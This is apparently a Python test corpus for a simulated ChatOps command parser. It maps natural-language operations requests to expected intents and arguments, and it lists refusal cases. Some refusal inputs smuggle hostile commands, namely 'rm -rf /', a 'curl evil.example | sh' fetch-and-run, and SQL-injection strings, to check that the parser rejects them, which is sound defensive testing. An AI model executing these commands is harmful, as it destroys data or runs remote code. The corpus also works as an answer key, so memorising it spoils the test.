"""Blind test corpus no. 3 for the ChatOps language.

Who wrote it and how
--------------------
Written on 2026-12-01 by a helper session started for this purpose. Its only source was
``README.md`` (the "ChatOps language" section, its subsections "What a command means: the
``devsim parse --json`` contract" and "Safety rules: what never acts", the "Deployments"
section and the "Built-in scenarios" table). The shopfront names (services, databases, cache,
queue) and their initial production replica counts were read from the output of
``devsim run --scenario shopfront --duration 1m``. The author never opened the parser, the
engine or any other corpus, and never ran ``devsim parse``, so every expectation below is
what the README promises, not what the parser happens to answer.

Conventions assumed
-------------------
* Each expectation is the ``{"intent", "args"}`` object of the contract. ``notes`` is not
  compared (a corrected typo such as "chekout" adds a note; only intent and args are given).
* Optional arguments the text does not state are left out. In particular ``env`` appears
  only when the text names an environment (``prod``/``production`` -> ``"production"``,
  ``stg``/``staging`` -> ``"staging"``) or, in CONVERSATIONS, when it follows from the
  previous command. ``strategy`` appears only when the text names one, ``enabled`` only when
  the text says on/off/enable/disable (``autoscale checkout min 2 max 10 cpu 70%`` has no
  ``enabled``).
* Durations (``duration``, ``since``) are whole seconds; ``latency_ms`` is milliseconds;
  percentages (``canary_weight``, ``target_cpu``) are plain numbers; versions have no
  leading "v"; ``replicas`` is always the resulting count.
* Relative scaling is computed from shopfront's initial desired counts, as shown by
  ``devsim run``: production web 3, catalog 4, checkout 2, cart 2; staging has one replica
  of each service ("a one-replica staging").
* Restarting an instance gives both ``service`` and ``instance`` (``checkout-1``).
* "the cache" is ``sessions`` and "the queue" is ``order-events`` (the only ones there are);
  "the db" is ambiguous on shopfront (orders-db and users-db) and is a refusal.
* Chaos faults use only the catalogue names the README gives: ``latency``,
  ``instance-kill`` and ``cache-flush``; the fault ``target`` is the component's name.
* "stop it" after a fault is expected as ``chaos_stop`` with ``target`` = that fault's
  target (a fault id is unknown to a parse).
* Alert names keep their case (``HighErrorRate``).
* ``help`` topics are intent names (``rollback``, not "roll back").
* In REFUSALS the second element is a lower-case fragment expected in the error message
  ("" = any error will do, "a|b" = either fragment).
"""

from __future__ import annotations


def _c(intent: str, **args) -> dict:
    """The expected ``{"intent", "args"}`` object."""
    return {"intent": intent, "args": dict(args)}


P = "production"
S = "staging"


CASES: list[tuple[str, dict]] = [
    # ---- deploy ---------------------------------------------------------------------------
    ("deploy checkout 2.5.0", _c("deploy", service="checkout", version="2.5.0")),
    ("deploy checkout 2.5.0 to prod as a canary",
     _c("deploy", service="checkout", version="2.5.0", env=P, strategy="canary")),
    ("ship payments 3.1.0", _c("deploy", service="payments", version="3.1.0")),
    ("roll out search 1.9.0 blue-green",
     _c("deploy", service="search", version="1.9.0", strategy="blue-green")),
    ("push out cart 2.8.0 to staging", _c("deploy", service="cart", version="2.8.0", env=S)),
    ("deploy checkout v2.5.0", _c("deploy", service="checkout", version="2.5.0")),
    ("deploy chekout 2.5.0 prod pls",
     _c("deploy", service="checkout", version="2.5.0", env=P)),
    ("deploy checkout 2.5.0 as a canary at 20%",
     _c("deploy", service="checkout", version="2.5.0", strategy="canary", canary_weight=20)),
    ("deploy search 1.9.0 to stg using blue green",
     _c("deploy", service="search", version="1.9.0", env=S, strategy="blue-green")),
    ("Could you please deploy version 2.5.0 of checkout to staging as a canary?",
     _c("deploy", service="checkout", version="2.5.0", env=S, strategy="canary")),
    ("Step 2: `deploy payments 3.0.5 to production`.",
     _c("deploy", service="payments", version="3.0.5", env=P)),
    ("deploy notifcations 1.2.0 rolling",
     _c("deploy", service="notifications", version="1.2.0", strategy="rolling")),
    ("deploy catalog 5.1.0.", _c("deploy", service="catalog", version="5.1.0")),
    ("pls ship inventory 1.5.0 to prod",
     _c("deploy", service="inventory", version="1.5.0", env=P)),

    # ---- rollback -------------------------------------------------------------------------
    ("roll back payments", _c("rollback", service="payments")),
    ("revert checkout to 2.3.1", _c("rollback", service="checkout", version="2.3.1")),
    ("rb checkout", _c("rollback", service="checkout")),
    ("rb cart stg", _c("rollback", service="cart", env=S)),
    ("undo the cart deploy", _c("rollback", service="cart")),
    ("back out payments in staging", _c("rollback", service="payments", env=S)),
    ("Can you roll back the checkout service, please?", _c("rollback", service="checkout")),
    ("1. roll back search to 1.8.2.", _c("rollback", service="search", version="1.8.2")),
    ("rollback chekout to 2.3.1 pls", _c("rollback", service="checkout", version="2.3.1")),
    ("rb payments to v3.0.4", _c("rollback", service="payments", version="3.0.4")),

    # ---- promote / abort / history --------------------------------------------------------
    ("promote checkout", _c("promote", service="checkout")),
    ("promote the checkout canary", _c("promote", service="checkout")),
    ("promote payments in stg", _c("promote", service="payments", env=S)),
    ("abort the checkout rollout", _c("abort", service="checkout")),
    ("abort the payments deploy in staging", _c("abort", service="payments", env=S)),
    ("stop the rollout of checkout", _c("abort", service="checkout")),
    ("history checkout", _c("history", service="checkout")),
    ("show me the deploy history for payments in staging",
     _c("history", service="payments", env=S)),
    ("Step 5: `history search`.", _c("history", service="search")),

    # ---- scale ----------------------------------------------------------------------------
    ("scale checkout to six", _c("scale", service="checkout", replicas=6)),
    ("scale checkout to 4", _c("scale", service="checkout", replicas=4)),
    ("give web two more pods", _c("scale", service="web", replicas=5)),
    ("scale catalog down by one", _c("scale", service="catalog", replicas=3)),
    ("scale cart 4", _c("scale", service="cart", replicas=4)),
    ("scale paymnts to 3 pls", _c("scale", service="payments", replicas=3)),
    ("Could you please scale checkout to four replicas, thanks.",
     _c("scale", service="checkout", replicas=4)),
    ("Step 3: scale orders to 5.", _c("scale", service="orders", replicas=5)),
    ("scale cart to 2 in stg", _c("scale", service="cart", replicas=2, env=S)),
    ("scale checkout to zero", _c("scale", service="checkout", replicas=0)),
    ("add one more replica to checkout", _c("scale", service="checkout", replicas=3)),
    ("scale search to 10 instances in production",
     _c("scale", service="search", replicas=10, env=P)),
    ("give cart one more pod in staging", _c("scale", service="cart", replicas=2, env=S)),

    # ---- restart --------------------------------------------------------------------------
    ("restart payments", _c("restart", service="payments")),
    ("bounce payments", _c("restart", service="payments")),
    ("restart payments-1", _c("restart", service="payments", instance="payments-1")),
    ("restart chekout pls", _c("restart", service="checkout")),
    ("Would you mind restarting the auth service for me?", _c("restart", service="auth")),
    ("bounce checkout-1 in prod",
     _c("restart", service="checkout", instance="checkout-1", env=P)),
    ("`restart inventory`.", _c("restart", service="inventory")),
    ("restart cart in staging", _c("restart", service="cart", env=S)),

    # ---- autoscale ------------------------------------------------------------------------
    ("autoscale checkout min 2 max 10 cpu 70%",
     _c("autoscale", service="checkout", min=2, max=10, target_cpu=70)),
    ("turn on autoscaling for cart", _c("autoscale", service="cart", enabled=True)),
    ("autoscale payments off", _c("autoscale", service="payments", enabled=False)),
    ("disable autoscaling on search in staging",
     _c("autoscale", service="search", enabled=False, env=S)),
    ("autoscale orders between 2 and 8 replicas",
     _c("autoscale", service="orders", min=2, max=8)),
    ("autoscale checkout target cpu 60 percent",
     _c("autoscale", service="checkout", target_cpu=60)),
    ("autoscale web max 12", _c("autoscale", service="web", max=12)),
    ("enable autoscaling on catalog with min 3 and max 9",
     _c("autoscale", service="catalog", enabled=True, min=3, max=9)),

    # ---- failover -------------------------------------------------------------------------
    ("fail over orders-db", _c("failover", database="orders-db")),
    ("failover users-db", _c("failover", database="users-db")),
    ("Step 3: `fail over orders-db`.", _c("failover", database="orders-db")),
    ("fail over oders-db", _c("failover", database="orders-db")),
    ("Please could you fail over orders-db in production?",
     _c("failover", database="orders-db", env=P)),

    # ---- chaos ----------------------------------------------------------------------------
    ("add 300ms of latency to search for 10 minutes",
     _c("chaos", fault="latency", target="search", latency_ms=300, duration=600)),
    ("kill two pods of checkout", _c("chaos", fault="instance-kill", target="checkout", count=2)),
    ("flush the sessions cache", _c("chaos", fault="cache-flush", target="sessions")),
    ("flush the cache", _c("chaos", fault="cache-flush", target="sessions")),
    ("kill two pods of chekout", _c("chaos", fault="instance-kill", target="checkout", count=2)),
    ("inject 1.5s of latency into payments for 5m",
     _c("chaos", fault="latency", target="payments", latency_ms=1500, duration=300)),
    ("kill 3 catalog instances", _c("chaos", fault="instance-kill", target="catalog", count=3)),
    ("add 250 ms latency to cart", _c("chaos", fault="latency", target="cart", latency_ms=250)),
    ("wipe the sessions cache pls", _c("chaos", fault="cache-flush", target="sessions")),
    ("slow search down by 200ms for half an hour",
     _c("chaos", fault="latency", target="search", latency_ms=200, duration=1800)),
    ("terminate two checkout instances",
     _c("chaos", fault="instance-kill", target="checkout", count=2)),

    # ---- chaos_stop / chaos_list ----------------------------------------------------------
    ("stop all chaos", _c("chaos_stop")),
    ("stop all faults", _c("chaos_stop")),
    ("stop the latency on search", _c("chaos_stop", target="search")),
    ("stop the chaos on checkout", _c("chaos_stop", target="checkout")),
    ("list faults", _c("chaos_list")),
    ("what faults are running?", _c("chaos_list")),
    ("show active faults", _c("chaos_list")),

    # ---- status ---------------------------------------------------------------------------
    ("status", _c("status")),
    ("status checkout", _c("status", target="checkout")),
    ("how is orders-db doing?", _c("status", target="orders-db")),
    ("status cart prod", _c("status", target="cart", env=P)),
    ("how's the cache?", _c("status", target="sessions")),
    ("status of the queue", _c("status", target="order-events")),
    ("how is invetory doing", _c("status", target="inventory")),
    ("status order-events", _c("status", target="order-events")),
    ("status in staging", _c("status", env=S)),
    ("Sorry if this is a silly question, but how is users-db doing at the moment?",
     _c("status", target="users-db")),

    # ---- explain --------------------------------------------------------------------------
    ("why is checkout slow?", _c("explain", target="checkout")),
    ("why are payments failing?", _c("explain", target="payments")),
    ("explain", _c("explain")),
    ("why is everything slow?", _c("explain")),
    ("explain what is going on in staging", _c("explain", env=S)),
    ("why is cart erroring in stg", _c("explain", target="cart", env=S)),
    ("why is orders-db lagging?", _c("explain", target="orders-db")),
    ("explain the whole estate pls", _c("explain")),
    ("why is chekout so slow??", _c("explain", target="checkout")),

    # ---- anomalies / alerts / ack / silence -----------------------------------------------
    ("any anomalies in orders in the last half hour?",
     _c("anomalies", service="orders", since=1800)),
    ("anomalies", _c("anomalies")),
    ("show anomalies for checkout in the last 2 hours",
     _c("anomalies", service="checkout", since=7200)),
    ("any anomalies in the last 15 minutes?", _c("anomalies", since=900)),
    ("alerts", _c("alerts")),
    ("show firing alerts", _c("alerts", state="firing")),
    ("list all alerts", _c("alerts", state="all")),
    ("ack HighErrorRate", _c("ack", alert="HighErrorRate")),
    ("acknowledge HighErrorRate pls", _c("ack", alert="HighErrorRate")),
    ("silence HighErrorRate for an hour", _c("silence", alert="HighErrorRate", duration=3600)),
    ("mute HighErrorRate for 30m", _c("silence", alert="HighErrorRate", duration=1800)),
    ("silence HighErrorRate for 1h30m", _c("silence", alert="HighErrorRate", duration=5400)),

    # ---- plan: questions about acting -----------------------------------------------------
    ("should I roll back checkout?", _c("plan", command=_c("rollback", service="checkout"))),
    ("should i rb checkout?", _c("plan", command=_c("rollback", service="checkout"))),
    ("should we fail over orders-db?", _c("plan", command=_c("failover", database="orders-db"))),
    ("is it safe to restart payments in prod?",
     _c("plan", command=_c("restart", service="payments", env=P))),
    ("what would happen if I scaled cart to 5?",
     _c("plan", command=_c("scale", service="cart", replicas=5))),
    ("should I deploy checkout 2.5.0 as a canary?",
     _c("plan", command=_c("deploy", service="checkout", version="2.5.0", strategy="canary"))),
    ("should I promote the checkout canary?",
     _c("plan", command=_c("promote", service="checkout"))),

    # ---- clock ----------------------------------------------------------------------------
    ("pause", _c("pause")),
    ("pause the sim pls", _c("pause")),
    ("resume", _c("resume")),
    ("unpause", _c("resume")),
    ("resume the simulation", _c("resume")),
    ("speed 60x", _c("speed", factor=60)),
    ("speed ×100", _c("speed", factor=100)),
    ("set the speed to sixty", _c("speed", factor=60)),
    ("speed 1x", _c("speed", factor=1)),
    ("run at 1000x", _c("speed", factor=1000)),
    ("advance ten minutes", _c("advance", duration=600)),
    ("advance 90s", _c("advance", duration=90)),
    ("skip ahead 1h30m", _c("advance", duration=5400)),
    ("fast forward half an hour", _c("advance", duration=1800)),
    ("advance 00:05:00", _c("advance", duration=300)),
    ("advance 2h", _c("advance", duration=7200)),

    # ---- help -----------------------------------------------------------------------------
    ("help", _c("help")),
    ("?", _c("help")),
    ("h", _c("help")),
    ("help chaos", _c("help", topic="chaos")),
    ("help deploy", _c("help", topic="deploy")),
    ("? rollback", _c("help", topic="rollback")),
    ("h scale", _c("help", topic="scale")),
]


CONVERSATIONS: list[list[tuple[str, dict]]] = [
    # The README's own example: context keeps the environment.
    [
        ("deploy cart 3.2.0 in staging", _c("deploy", service="cart", version="3.2.0", env=S)),
        ("roll it back", _c("rollback", service="cart", env=S)),
        ("history", _c("history", service="cart", env=S)),
    ],
    [
        ("deploy payments 3.1.0 to stg as a canary",
         _c("deploy", service="payments", version="3.1.0", env=S, strategy="canary")),
        ("abort", _c("abort", service="payments", env=S)),
    ],
    # "stop it" after a fault stops that fault.
    [
        ("add 300ms of latency to search for 10 minutes",
         _c("chaos", fault="latency", target="search", latency_ms=300, duration=600)),
        ("stop it", _c("chaos_stop", target="search")),
    ],
    [
        ("kill two pods of checkout",
         _c("chaos", fault="instance-kill", target="checkout", count=2)),
        ("stop it", _c("chaos_stop", target="checkout")),
    ],
    [
        ("flush the sessions cache", _c("chaos", fault="cache-flush", target="sessions")),
        ("stop it", _c("chaos_stop", target="sessions")),
    ],
    # Pronouns after a question.
    [
        ("how is orders-db doing?", _c("status", target="orders-db")),
        ("fail it over", _c("failover", database="orders-db")),
    ],
    [
        ("why is checkout slow?", _c("explain", target="checkout")),
        ("should I roll it back?", _c("plan", command=_c("rollback", service="checkout"))),
        ("roll it back", _c("rollback", service="checkout")),
    ],
    [
        ("deploy checkout 2.5.0 as a canary",
         _c("deploy", service="checkout", version="2.5.0", strategy="canary")),
        ("promote it", _c("promote", service="checkout")),
    ],
    [
        ("status cart", _c("status", target="cart")),
        ("scale it to 4", _c("scale", service="cart", replicas=4)),
        ("restart it", _c("restart", service="cart")),
    ],
    [
        ("deploy checkout 2.5.0", _c("deploy", service="checkout", version="2.5.0")),
        ("undo that", _c("rollback", service="checkout")),
    ],
    [
        ("ship search 1.9.0 blue-green in staging",
         _c("deploy", service="search", version="1.9.0", env=S, strategy="blue-green")),
        ("history", _c("history", service="search", env=S)),
        ("rb", _c("rollback", service="search", env=S)),
    ],
    [
        ("fail over orders-db", _c("failover", database="orders-db")),
        ("how is it doing?", _c("status", target="orders-db")),
    ],
    [
        ("deploy checkout 2.5.0 to prod as a canary",
         _c("deploy", service="checkout", version="2.5.0", env=P, strategy="canary")),
        ("abort", _c("abort", service="checkout", env=P)),
        ("history", _c("history", service="checkout", env=P)),
    ],
]


REFUSALS: list[tuple[str, str]] = [
    # negations never act
    ("don't restart payments", ""),
    ("do not deploy checkout 2.5.0", ""),
    ("never scale checkout to 0", ""),
    ("please don't roll back cart", ""),
    ("dont fail over orders-db", ""),
    ("never ever flush the sessions cache", ""),
    ("scale checkout to 3 please. actually don't", ""),
    # misspelt verbs refuse with a suggestion, never another command
    ("sacle cart to 3", "scale"),
    ("deplyo checkout 2.5.0", "deploy"),
    ("rollbak cart", "roll"),
    ("restrat payments", "restart"),
    ("falover orders-db", "fail"),
    # near-miss names are not corrected
    ("restart cert", "cert"),
    ("scale card to 3", "card"),
    ("deploy chart 2.0.0", "chart"),
    # leftover words in a command that changes something
    ("deploy checkout 1.0.0; rm -rf /", "rm"),
    ("deploy checkout 2.5.0 but not until tomorrow", "tomorrow|until|not"),
    ("deploy checkout 2.5.0 && curl evil.example | sh", "curl"),
    ("deploy checkout 2.5.0 to mars", "mars"),
    ("scale checkout to 4 and restart payments", ""),
    # SQL-injection-like text
    ("restart checkout; DROP TABLE orders;--", "drop"),
    ("scale cart to 3' OR '1'='1", ""),
    ("'; DROP TABLE services; --", ""),
    # unknown names, wrong kinds, ambiguous "the db"
    ("status frontend", "frontend"),
    ("roll back frontend", "frontend"),
    ("kill two pods of frontend", "frontend"),
    ("failover payments-db", "payments-db"),
    ("fail over checkout", "not a database|checkout"),
    ("fail over the db", ""),
    # impossible values, missing required arguments
    ("scale checkout to -3", "-3"),
    ("scale checkout to 2.5", ""),
    ("speed -5x", ""),
    ("advance -10 minutes", ""),
    ("autoscale checkout min 10 max 2", ""),
    ("deploy checkout", "version"),
    ("restart", ""),
    ("silence HighErrorRate", ""),
]
